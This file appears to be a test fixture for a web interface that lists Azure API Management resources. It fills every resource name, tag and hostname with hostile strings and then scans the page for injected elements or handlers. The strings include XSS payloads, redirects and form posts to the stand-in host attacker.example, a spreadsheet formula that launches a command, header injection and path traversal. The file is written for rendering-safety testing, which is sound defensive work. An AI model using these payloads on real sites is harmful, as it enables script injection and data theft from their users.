// An estate in which every name that a person can choose is an attack on whoever shows it.

/** How many hostile names there are. */
export const NAMES = 100_000;

/** How many instances they stand in. */
export const INSTANCES = 250;

const TAGS = 149;
const HOSTS = 100;

/** What each does, if it is anything but text, is seen: `ran`, a dialog, a request, another page. */
const ATTACKS = [
  '<script>globalThis.ran=1</script>',
  '</script><script>globalThis.ran=2</script>',
  '"><img src=x onerror=globalThis.ran=3>',
  "' autofocus onfocus='globalThis.ran=4' x='",
  '</title></style></textarea></pre></code><img src=https://attacker.example/5 onerror=alert(5)>',
  '<svg/onload=globalThis.ran=6>',
  '<iframe srcdoc="<script>top.ran=7</script>"></iframe>',
  '<meta http-equiv=refresh content="0;url=https://attacker.example/8">',
  '<base href=https://attacker.example/9/>',
  '<link rel=stylesheet href=https://attacker.example/10>',
  '<style>@import url(https://attacker.example/11)</style>',
  '<form action=https://attacker.example/12><input autofocus onfocus=this.form.submit()>',
  '<details open ontoggle=globalThis.ran=13>',
  '<video><source onerror=globalThis.ran=14></video>',
  '<a href=javascript:globalThis.ran=15>x</a>',
  'javascript:globalThis.ran=16',
  '[x](javascript:globalThis.ran=17)',
  '![x](https://attacker.example/18)',
  '<!--', '-->', ']]>', '<![CDATA[', '<?xml version="1.0"?>', '<!doctype html>',
  '&lt;script&gt;globalThis.ran=19&lt;/script&gt;', '&#x3c;script&#x3e;', '&',
  '`globalThis.ran=20`', '$(globalThis.ran=21)', '${globalThis.ran=22}', '{{globalThis.ran=23}}',
  '{}', "';globalThis.ran=24;'", '";globalThis.ran=25;"', '\\";globalThis.ran=26;//',
  '\u202Egnp.exe', '\u2066\u2067\u2068', '\u200B\u200C\u200D', '\uFEFF', '\u0000', '\u0007\u001B[2J',
  '\r\nSet-Cookie: ran=27', '\u2028globalThis.ran=28', '\uFFFE',
  "=cmd|' /C calc'!A0", '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '%0A', '../../etc/passwd', 'CON',
  '__proto__', 'constructor', 'toString', 'İı', '\u{1F468}\u200D\u{1F469}', 'مرحبا', 'שלום',
];

/** The names one after another; every thousandth has ten thousand characters. */
function* names() {
  for (let number = 0; ; number += 1) {
    const attack = ATTACKS[number % ATTACKS.length];
    yield number % 1000 === 999
      ? `${attack}${'<b>x'.repeat(2500)}${number}`
      : `${attack}${number}`;
  }
}

/** The estate as a list of resources. */
export function estate() {
  const source = names();
  const name = () => source.next().value;
  const list = (length, make) => Array.from({ length }, make);
  return JSON.stringify(list(INSTANCES, (_, index) => ({
    type: 'Microsoft.ApiManagement/service',
    name: name(),
    location: 'West Europe',
    tags: Object.fromEntries(list(TAGS, () => [name(), name()])),
    sku: { name: ['Premium', 'Standard', 'Developer'][index % 3], capacity: 1 },
    properties: {
      platformVersion: ['stv1', 'stv2', 'stv2.1'][index % 3],
      virtualNetworkType: ['Internal', 'None', 'External'][index % 3],
      publisherName: name(),
      hostnameConfigurations: list(HOSTS, () => ({ type: 'Proxy', hostName: name() })),
    },
  })));
}

/** In the page: what is there that a name must never become. */
export function broken() {
  const found = [];
  if (globalThis.ran !== undefined) found.push(`ran ${globalThis.ran}`);
  for (const element of document.querySelectorAll('*')) {
    const { localName } = element;
    if (['img', 'iframe', 'video', 'base', 'object', 'embed'].includes(localName)) {
      found.push(element.outerHTML.slice(0, 200));
    }
    for (const { name, value } of element.attributes) {
      const leads = /^(href|src|srcdoc|action|formaction|data|xlink:href)$/.test(name);
      if (name.startsWith('on') || (leads && /^\s*javascript:/i.test(value))) {
        found.push(`${localName} ${name}`);
      }
    }
  }
  return found;
}
